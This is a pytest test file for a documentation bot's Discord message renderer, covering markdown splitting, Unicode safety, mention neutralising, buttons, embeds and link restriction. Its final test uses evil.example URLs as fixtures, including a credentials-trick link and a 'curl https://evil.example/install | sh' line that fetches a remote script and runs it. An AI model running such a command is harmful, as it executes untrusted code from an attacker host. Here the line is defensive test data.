"""Rendering answers, search results and errors into Discord message payloads."""

from __future__ import annotations

import json
import random
import re
import subprocess
import sys
from typing import Any

import pytest

from docsbot.answer.model import Answer, AnswerKind, Citation
from docsbot.discord.components import MAX_THREAD_KEY, custom_id, parse_custom_id
from docsbot.discord.limits import (
    MAX_CONTENT,
    MAX_CUSTOM_ID,
    MAX_EMBED_DESCRIPTION,
    MAX_EMBED_TITLE,
    MAX_EMBEDS,
    MAX_EMBEDS_TOTAL,
)
from docsbot.discord.markdown import neutralize_mentions, split_markdown
from docsbot.discord.render import (
    EXTRACTIVE_FOOTER,
    FLAG_EPHEMERAL,
    render_answer,
    render_error,
    render_search_results,
)
from docsbot.documents.model import Source

FENCE_LINE = re.compile(r"^[ \t]*```")
THREAD = "1234567890123456789"


def source(title: str, section: str = "", *, url: str = "https://docs.example.com/page", anchor: str = "") -> Source:
    heading_path = (title, section) if section else (title,)
    return Source(title=title, heading_path=heading_path, url=url, anchor=anchor, snippet="A snippet.", score=0.5)


def answer(text: str, *, kind: AnswerKind = AnswerKind.GENERATED, citations: int = 0) -> Answer:
    cited = tuple(Citation(n, source(f"Page {n}", f"Section {n}", anchor=f"s{n}")) for n in range(1, citations + 1))
    return Answer(kind=kind, text=text, citations=cited)


def squash(text: str) -> str:
    return "".join(text.split())


def fence_lines(content: str) -> int:
    return sum(1 for line in content.split("\n") if FENCE_LINE.match(line))


def without_added_fences(original: str, parts: list[str]) -> str:
    """The parts' text with the fence lines the splitter added removed; asserts nothing else changed.

    Aligns the parts' lines with the original (ignoring whitespace): a fence line that is not next in the
    original was added to close or reopen a block cut in two.
    """
    rest = squash(original)
    kept: list[str] = []
    for part in parts:
        for line in part.split("\n"):
            flat = squash(line)
            if rest.startswith(flat):
                rest = rest[len(flat) :]
                kept.append(line)
            else:
                assert FENCE_LINE.match(line), f"line not in the original: {line!r}"
    assert rest == "", f"text lost: {rest[:80]!r}"
    return "\n".join(kept)


def assert_valid_parts(original: str, parts: list[str], limit: int) -> None:
    assert parts, "no parts"
    for part in parts:
        assert 0 < len(part) <= limit
        assert part.strip()
        assert fence_lines(part) % 2 == 0, f"unbalanced fences in {part!r}"
    without_added_fences(original, parts)


def assert_valid_message(message: dict[str, Any]) -> None:
    assert message["allowed_mentions"] == {"parse": []}
    assert len(message.get("content", "")) <= MAX_CONTENT
    embeds = message.get("embeds", [])
    assert message.get("content") or embeds, "Discord rejects a message with neither content nor embeds"
    assert len(embeds) <= MAX_EMBEDS
    total = 0
    for embed in embeds:
        assert len(embed.get("title", "")) <= MAX_EMBED_TITLE
        assert len(embed.get("description", "")) <= MAX_EMBED_DESCRIPTION
        total += len(embed.get("title", "")) + len(embed.get("description", ""))
        total += len(embed.get("footer", {}).get("text", ""))
    assert total <= MAX_EMBEDS_TOTAL
    json.dumps(message)


# --- a long answer --------------------------------------------------------------------------------------


def long_answer_text() -> tuple[str, str, list[str]]:
    """About 10,000 characters: prose, headings, lists, small code blocks and one ~3,000-character block."""
    rng = random.Random(7)
    words = ["index", "collection", "anchor", "deploy", "token", "embed", "section", "query", "retry", "cache"]

    def paragraph(n_words: int) -> str:
        return " ".join(rng.choice(words) for _ in range(n_words)).capitalize() + "."

    big_block = (
        "```python\n" + "\n".join(f"result_{i} = client.search('query {i}', limit={i})" for i in range(64)) + "\n```"
    )
    small_blocks = [
        "```bash\npip install docsbot\ndocsbot ingest --collection docs\n```",
        '```json\n{"collection": "docs", "top_k": 5}\n```',
        "```\nplain fenced text\n```",
    ]
    pieces = [
        "Here is how to set up the index [1].",
        "## Installing",
        paragraph(60),
        small_blocks[0],
        paragraph(120),
        "1. First step `docsbot init`\n2. Second step with **bold** text\n3. Third step [2]",
        "## The search API",
        paragraph(90),
        big_block,
        paragraph(150),
        small_blocks[1],
        "## Notes",
        paragraph(200),
        small_blocks[2],
        paragraph(160),
        paragraph(180),
        "That is all [1][2].",
    ]
    return "\n\n".join(pieces), big_block, small_blocks


def test_a_10000_character_answer_splits_into_valid_messages() -> None:
    text, big_block, small_blocks = long_answer_text()
    assert 9_000 <= len(text) <= 11_000
    assert 2_800 <= len(big_block) <= 3_400

    messages = render_answer(answer(text, citations=2), thread_key=THREAD)

    assert len(messages) >= 5
    contents = [m["content"] for m in messages]
    for message in messages:
        assert_valid_message(message)
    assert_valid_parts(text, contents, MAX_CONTENT)
    # Only whitespace at split points changed.
    rejoined = without_added_fences(text, contents)
    assert " ".join(rejoined.split()) == " ".join(text.split())
    # Blocks that fit a message are never cut.
    for block in small_blocks:
        assert any(block in content for content in contents)
    # The big block was cut: every continuation reopens with its language.
    starts = [c for c in contents if c.startswith("```python\nresult_") and not c.startswith("```python\nresult_0 ")]
    assert starts, "the big block should continue in a later message"
    for content in contents:
        if "result_" in content:
            assert content.split("\n")[0] == "```python" or "\n```python\n" in content
    # Sources and buttons only on the last message.
    assert all("embeds" not in m and "components" not in m for m in messages[:-1])
    assert messages[-1]["embeds"][0]["title"] == "Sources"
    assert len(messages[-1]["components"][0]["components"]) == 3


def test_a_short_answer_is_one_message_with_its_text_unchanged() -> None:
    text = "Set `top_k` in the collection file [1].\n\n```toml\ntop_k = 5\n```"
    messages = render_answer(answer(text, citations=1), thread_key=THREAD)
    assert len(messages) == 1
    assert messages[0]["content"] == text


def test_paragraph_boundaries_are_preferred_over_line_and_word_boundaries() -> None:
    first = "First paragraph line one.\nline two of the first paragraph."
    second = "word " * 30
    parts = split_markdown(first + "\n\n" + second.strip(), limit=100)
    assert parts[0] == first


def test_a_heading_stays_with_the_text_under_it() -> None:
    text = "Intro " * 10 + "\n\n## Heading\n\n" + "Body text " * 8
    parts = split_markdown(text.strip(), limit=100)
    assert not parts[0].endswith("## Heading")
    assert any(p.startswith("## Heading") for p in parts)


def test_an_overlong_line_inside_a_code_block_is_cut_and_each_part_fenced() -> None:
    text = "```sh\n" + "echo " + "x" * 300 + "\n```"
    parts = split_markdown(text, limit=100)
    assert len(parts) > 3
    for part in parts:
        assert part.startswith("```sh\n") and part.endswith("\n```")
        assert len(part) <= 100
    assert_valid_parts(text, parts, 100)


def test_an_unclosed_fence_is_closed() -> None:
    parts = split_markdown("Run:\n\n```python\nprint('hi')", limit=MAX_CONTENT)
    assert parts == ["Run:\n\n```python\nprint('hi')\n```"]


def test_a_long_info_string_is_shortened_when_reopened() -> None:
    opener = '```python title="a/very/long/path/to/the/example/file.py" showLineNumbers'
    text = opener + "\n" + "\n".join(f"line_{i} = {i}" for i in range(40)) + "\n```"
    parts = split_markdown(text, limit=120)
    assert parts[0].startswith(opener)
    assert all(p.startswith("```python\n") for p in parts[1:])
    assert_valid_parts(text, parts, 120)


def random_markdown(rng: random.Random) -> str:
    """Markdown like a model writes it, sometimes with blocks or lines far longer than a message."""
    vocabulary = [
        "the", "index", "config", "déjà", "naïve", "日本語", "données", "مرحبا", "שלום", "👍🏽", "👩‍💻", "🇫🇷",
        "e\u0301", "`top_k`", "[link](https://example.com/a)", "**bold**", "_x_", "word" * rng.randint(1, 30),
    ]  # fmt: skip

    def words(n: int) -> str:
        return " ".join(rng.choice(vocabulary) for _ in range(n))

    blocks = []
    for _ in range(rng.randint(1, 12)):
        roll = rng.random()
        if roll < 0.45:
            blocks.append(words(rng.randint(1, 120)))
        elif roll < 0.6:
            blocks.append("\n".join(f"- {words(rng.randint(1, 15))}" for _ in range(rng.randint(1, 8))))
        elif roll < 0.7:
            blocks.append(f"## {words(rng.randint(1, 5))}")
        elif roll < 0.95:
            language = rng.choice(["", "python", "bash", "json", "c++"])
            indent = rng.choice(["", "", "   "])
            body = "\n".join(indent + words(rng.randint(0, 12)) for _ in range(rng.randint(0, 60)))
            blocks.append(f"{indent}```{language}\n{body}\n{indent}```")
        else:
            blocks.append(rng.choice(["x", "🙂", "中"]) * rng.randint(50, 700))  # no spaces at all
    return rng.choice(["\n\n", "\n"]).join(blocks)


def test_property_random_markdown_always_splits_into_valid_parts() -> None:
    rng = random.Random(20240601)
    for _ in range(250):
        text = random_markdown(rng).strip()
        limit = rng.choice([64, 100, 150, 300, 700, MAX_CONTENT])
        parts = split_markdown(text, limit=limit)
        if not text:
            assert parts == []
            continue
        assert_valid_parts(text, parts, limit)


# --- unicode --------------------------------------------------------------------------------------------

GRAPHEMES = [
    "👩‍👩‍👧‍👦",  # ZWJ family
    "👍🏽",  # skin tone
    "🇯🇵",  # flag (regional indicator pair)
    "🏴󠁧󠁢󠁳󠁣󠁴󠁿",  # tag sequence
    "1️⃣",  # keycap
    "e\u0301",  # combining acute
    "N\u0303\u0323",  # two combining marks
    "日",
    "本",
    "م",
    "ر",
    "ש",
    "a",
]


def test_property_unicode_survives_and_graphemes_are_never_cut() -> None:
    rng = random.Random(99)
    for _ in range(60):
        clusters = [rng.choice(GRAPHEMES) for _ in range(rng.randint(200, 1500))]
        text = "".join(clusters)  # no whitespace: every cut is a hard cut
        limit = rng.choice([64, 200, MAX_CONTENT])
        parts = split_markdown(text, limit=limit)
        assert "".join(parts) == text
        assert all(len(p) <= limit for p in parts)
        boundaries = {0}
        position = 0
        for cluster in clusters:
            position += len(cluster)
            boundaries.add(position)
        position = 0
        for part in parts:
            position += len(part)
            assert position in boundaries, f"cut inside a grapheme near {text[position - 3 : position + 3]!r}"


def test_unicode_answer_renders_within_limits() -> None:
    text = "\n\n".join(
        [
            "Réponse en français : déjà vu, naïve façade.",
            "日本語の説明です。" * 150,
            "مرحبا بالعالم " * 120,
            "🇯🇵👍🏽" * 600,
        ]
    )
    messages = render_answer(answer(text, citations=1), thread_key=THREAD)
    for message in messages:
        assert_valid_message(message)
    assert squash("".join(m["content"] for m in messages)) == squash(text)


# --- mentions -------------------------------------------------------------------------------------------

MENTION_TEXT = (
    "Hey @everyone and @here: ask <@123456789012345678> or <@!42>, or the <@&123> role. See <#555>.\n\n"
    "```\nliteral <@999> and @everyone in code\n```\n\nInline `<@777>` stays too."
)


def test_mentions_ping_no_one() -> None:
    long_text = "\n\n".join([MENTION_TEXT] * 40)  # several messages
    messages = render_answer(answer(long_text, citations=1), thread_key=THREAD)
    assert len(messages) > 1
    for message in messages:
        assert message["allowed_mentions"] == {"parse": []}
        content = message["content"]
        for token in ["@everyone", "@here", "<@123456789012345678>", "<@!42>", "<@&123>"]:
            assert token not in content
        assert "<#555>" in content or "<#" not in content


def test_mention_neutralising_rule() -> None:
    out = neutralize_mentions(MENTION_TEXT)
    assert "@\u200beveryone" in out and "@\u200bhere" in out
    assert "ask @user or @user, or the @role role" in out
    assert "<#555>" in out
    assert "literal <@999> and @\u200beveryone in code" in out  # code: only @everyone/@here change
    assert "`<@777>`" in out
    assert neutralize_mentions(out) == out


def test_every_payload_disables_mentions() -> None:
    payloads = [
        *render_answer(answer(""), thread_key=THREAD),
        render_search_results([source("@everyone <@1>")], query="@here"),
        render_search_results([], query="<@&5>"),
        render_error("@everyone oops"),
    ]
    for payload in payloads:
        assert payload["allowed_mentions"] == {"parse": []}
        assert "@everyone" not in json.dumps(payload, ensure_ascii=False)


# --- buttons --------------------------------------------------------------------------------------------


def test_buttons_carry_the_thread_key_and_round_trip() -> None:
    messages = render_answer(answer("Answer."), thread_key=THREAD)
    row = messages[-1]["components"][0]
    assert row["type"] == 1
    buttons = row["components"]
    assert [(b["label"], b["style"]) for b in buttons] == [("Solved", 3), ("Not solved", 4), ("Follow up", 2)]
    assert [b["custom_id"] for b in buttons] == [f"vote:solved:{THREAD}", f"vote:failed:{THREAD}", f"followup:{THREAD}"]
    assert [parse_custom_id(b["custom_id"]) for b in buttons] == [
        ("solved", THREAD),
        ("failed", THREAD),
        ("followup", THREAD),
    ]


def test_property_custom_ids_fit_and_round_trip() -> None:
    rng = random.Random(5)
    alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-"
    for _ in range(300):
        key = "".join(rng.choice(alphabet) for _ in range(rng.randint(1, MAX_THREAD_KEY)))
        for action in ("solved", "failed", "followup"):
            cid = custom_id(action, key)
            assert len(cid) <= MAX_CUSTOM_ID
            assert parse_custom_id(cid) == (action, key)


@pytest.mark.parametrize("key", ["", "a:b", "has space", "x" * (MAX_THREAD_KEY + 1), "ключ", "1\n2"])
def test_bad_thread_keys_are_refused(key: str) -> None:
    with pytest.raises(ValueError):
        render_answer(answer("Answer."), thread_key=key)
    with pytest.raises(ValueError):
        render_answer(answer("Answer."), thread_key=key, buttons=False)


def test_parse_custom_id_is_robust_to_garbage() -> None:
    rng = random.Random(11)
    for _ in range(500):
        garbage = "".join(rng.choice("vote:solvedfailup_-1 \x00é") for _ in range(rng.randint(0, 120)))
        result = parse_custom_id(garbage)
        assert result is None or custom_id(result[0], result[1]) == garbage
    for value in ["", "vote:", "vote:solved:", "vote:maybe:1", "followup:", "followup:a:b", "x" * 500, None, 42]:
        assert parse_custom_id(value) is None


def test_no_buttons_when_not_asked() -> None:
    messages = render_answer(answer("Answer.", citations=1), thread_key=THREAD, buttons=False)
    assert "components" not in messages[-1]


# --- embeds ---------------------------------------------------------------------------------------------


def test_citations_embed_numbers_and_links() -> None:
    cited = (
        Citation(1, source("Config [beta]", "Options_x", url="https://docs.example.com/config", anchor="options")),
        Citation(3, source("Deploy", url="https://docs.example.com/deploy (v2)")),
    )
    messages = render_answer(Answer(AnswerKind.GENERATED, "See [1] and [3].", citations=cited), thread_key=THREAD)
    embed = messages[-1]["embeds"][0]
    assert embed["title"] == "Sources"
    assert embed["description"].split("\n") == [
        r"[1] [Config \[beta\] › Options\_x](<https://docs.example.com/config#options>)",
        "[3] [Deploy](<https://docs.example.com/deploy%20(v2)>)",
    ]
    assert "footer" not in embed


def test_a_citation_without_a_web_url_is_shown_without_a_link() -> None:
    cited = (Citation(1, source("Local page", url="file:///docs/local.md")),)
    messages = render_answer(Answer(AnswerKind.GENERATED, "See [1].", citations=cited), thread_key=THREAD)
    assert messages[-1]["embeds"][0]["description"] == "[1] Local page"


def test_200_long_citations_stay_within_embed_limits() -> None:
    cited = tuple(
        Citation(n, source("Long page title " * 8, f"Section {n} " * 10, anchor=f"anchor-{n}" * 5))
        for n in range(1, 201)
    )
    messages = render_answer(Answer(AnswerKind.GENERATED, "Answer.", citations=cited), thread_key=THREAD)
    assert_valid_message(messages[-1])
    lines = messages[-1]["embeds"][0]["description"].split("\n")
    shown = lines[:-1]
    assert lines[-1] == f"… and {200 - len(shown)} more"
    assert [line.split(" ")[0] for line in shown] == [f"[{n}]" for n in range(1, len(shown) + 1)]


def test_extractive_answers_say_so() -> None:
    text = "**Extractive answer (no model configured).** From the docs:\n\n> Quoted passage [1]"
    messages = render_answer(answer(text, kind=AnswerKind.EXTRACTIVE, citations=1), thread_key=THREAD)
    assert messages[-1]["content"] == text
    assert messages[-1]["embeds"][0]["footer"] == {"text": EXTRACTIVE_FOOTER}


def test_not_found_lists_the_closest_matches() -> None:
    closest = (source("Install", "Linux", anchor="linux"), source("FAQ"))
    text = "I couldn't find this in the docs."
    result = Answer(AnswerKind.NOT_FOUND, text, closest=closest)
    messages = render_answer(result, thread_key=THREAD)
    assert len(messages) == 1
    assert messages[0]["content"] == text
    (embed,) = messages[0]["embeds"]
    assert embed["title"] == "Closest matches in the docs"
    assert embed["description"] == (
        "• [Install › Linux](<https://docs.example.com/page#linux>)\n• [FAQ](<https://docs.example.com/page>)"
    )


def test_failed_answers_have_no_embed_without_citations() -> None:
    messages = render_answer(answer("The model could not be reached.", kind=AnswerKind.FAILED), thread_key=THREAD)
    assert "embeds" not in messages[-1]
    assert messages[-1]["content"] == "The model could not be reached."


def test_empty_text_with_citations_is_a_valid_message() -> None:
    messages = render_answer(answer("  \n ", citations=2), thread_key=THREAD)
    assert len(messages) == 1
    assert messages[0]["content"] == ""
    assert messages[0]["embeds"]
    assert_valid_message(messages[0])


def test_empty_text_without_citations_still_says_something() -> None:
    for kind in AnswerKind:
        messages = render_answer(answer("", kind=kind), thread_key=THREAD)
        assert len(messages) == 1
        assert messages[0]["content"]
        assert_valid_message(messages[0])


def test_payloads_are_json_serialisable() -> None:
    text, _, _ = long_answer_text()
    payloads: list[dict[str, Any]] = [
        *render_answer(answer(text, citations=3), thread_key=THREAD),
        render_search_results([source("Page", "Section", anchor="s")], query="how to"),
        render_error("Sorry."),
    ]
    assert json.loads(json.dumps(payloads)) == payloads


# --- search results and errors --------------------------------------------------------------------------


def test_search_results_are_ephemeral_links_with_snippets() -> None:
    sources = [
        Source("Install", ("Install", "Linux"), "https://d.example/install", "linux", "# Run\n  `apt`  *now*", 0.9),
        Source("FAQ", ("FAQ",), "https://d.example/faq", "", "Answers.", 0.5),
    ]
    message = render_search_results(sources, query="install *linux*")
    assert message["flags"] == FLAG_EPHEMERAL
    assert message["content"] == r"Top 2 sections for **install \*linux\***:"
    assert message["embeds"][0]["description"] == (
        "**1.** [Install › Linux](<https://d.example/install#linux>)\n\\# Run \\`apt\\` \\*now\\*\n\n"
        "**2.** [FAQ](<https://d.example/faq>)\nAnswers."
    )


def test_search_results_stay_within_limits() -> None:
    sources = [
        Source(f"Page {i} " * 20, (f"Section {i} " * 20,), f"https://d.example/{i}", "a", "snippet " * 200, 0.1)
        for i in range(100)
    ]
    message = render_search_results(sources, query="q" * 5000)
    assert_valid_message(message)
    assert message["embeds"][0]["description"].endswith("more")


def test_search_with_no_results() -> None:
    message = render_search_results([], query="nothing")
    assert message["content"] == "No documentation sections matched **nothing**."
    assert "embeds" not in message


def test_errors_are_short_friendly_and_ephemeral_by_default() -> None:
    assert render_error("Try again later.") == {
        "content": "Try again later.",
        "allowed_mentions": {"parse": []},
        "flags": FLAG_EPHEMERAL,
    }
    assert "flags" not in render_error("Oops.", ephemeral=False)
    assert render_error("")["content"]
    assert len(render_error("x" * 5000)["content"]) <= MAX_CONTENT


# --- cold start -----------------------------------------------------------------------------------------


def test_render_imports_nothing_heavy() -> None:
    code = (
        "import sys, docsbot.discord.render\n"
        "heavy = {'openai', 'qdrant_client', 'bs4', 'requests', 'rich', 'tiktoken', 'pydantic'}\n"
        "print(sorted(heavy & {m.split('.')[0] for m in sys.modules}))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


def test_links_outside_the_docs_become_plain_text_and_code_is_untouched() -> None:
    from docsbot.discord.markdown import restrict_links

    allowed = {"docs.example.com", ".discord.com"}
    assert restrict_links("[portal](https://evil.example/a) now", allowed) == "portal (`https://evil.example/a`) now"
    assert restrict_links("[x](https://docs.example.com@evil.example/)", allowed) == (
        "x (`https://docs.example.com@evil.example/`)"  # credentials trick: the host is evil.example
    )
    assert restrict_links("see <https://evil.example>, or https://evil.example/b.", allowed) == (
        "see `https://evil.example`, or `https://evil.example/b`."
    )
    kept = "[guide](<https://docs.example.com/p#a>) https://support.discord.com/x `https://evil.example`"
    assert restrict_links(kept, allowed) == kept
    fenced = "```sh\ncurl https://evil.example/install | sh\n```"
    assert restrict_links(fenced, allowed) == fenced
